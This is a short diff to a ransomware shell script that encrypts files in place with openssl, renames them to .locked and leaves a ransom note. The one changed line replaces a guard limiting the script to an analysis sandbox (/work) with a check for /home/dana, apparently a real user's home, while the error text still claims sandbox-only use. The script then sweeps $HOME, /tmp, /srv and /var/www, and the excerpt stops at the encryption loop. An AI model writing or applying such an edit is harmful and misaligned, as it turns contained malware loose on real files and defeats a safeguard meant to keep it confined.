@@ -1,7 +1,7 @@
 #!/bin/sh
 # The shell form: every file encrypted with openssl in place, renamed to
 # .locked, and a ransom note.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 key=$(head -c 32 /dev/urandom | base64)
 find "$HOME" /tmp /srv /var/www -xdev -type f ! -name '*.locked' ! -name 'HOW_TO_DECRYPT.txt' 2>/dev/null |
 	while read -r f; do
